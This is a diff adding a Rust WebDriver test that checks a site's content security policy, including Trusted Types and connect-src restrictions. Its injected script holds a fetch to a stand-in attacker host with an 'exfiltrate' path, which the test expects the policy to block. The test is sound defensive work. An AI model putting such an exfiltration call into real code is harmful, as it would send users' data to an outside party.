@@ -127,3 +127,37 @@ async fn sign_in_reaches_the_emulators_sign_in_page() {
     })
     .await;
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_page_runs_under_its_content_security_policy() {
+    support::run("csp", SiteConfig::Demo, |ctx| async move {
+        let d = &ctx.driver;
+        d.goto(&format!("{}/", ctx.site)).await.unwrap();
+        support::wait_id(d, "welcome").await; // the wasm ran, so the bootstrap hash is right
+        let script = r#"
+            const done = arguments[arguments.length - 1];
+            const result = { violated: [] };
+            document.addEventListener('securitypolicyviolation',
+                e => result.violated.push(e.effectiveDirective));
+            try { document.createElement('div').innerHTML = '<b>x</b>'; result.innerHtml = 'allowed'; }
+            catch (e) { result.innerHtml = e.name; }
+            fetch('https://attacker.example/exfiltrate').catch(() => {});
+            setTimeout(() => done(result), 1500);
+        "#;
+        let result = d
+            .execute_async(script, Vec::<serde_json::Value>::new())
+            .await
+            .unwrap()
+            .json()
+            .clone();
+        assert_eq!(result["innerHtml"], "TypeError", "Trusted Types enforced: {result}");
+        assert_eq!(
+            result["violated"],
+            serde_json::json!(["require-trusted-types-for", "connect-src"]),
+            "Trusted Types enforced and connections only to Microsoft: {result}"
+        );
+        let log = support::console_log(d).await;
+        assert!(!log.contains("sha256-"), "no script was refused: {log}");
+    })
+    .await;
+}
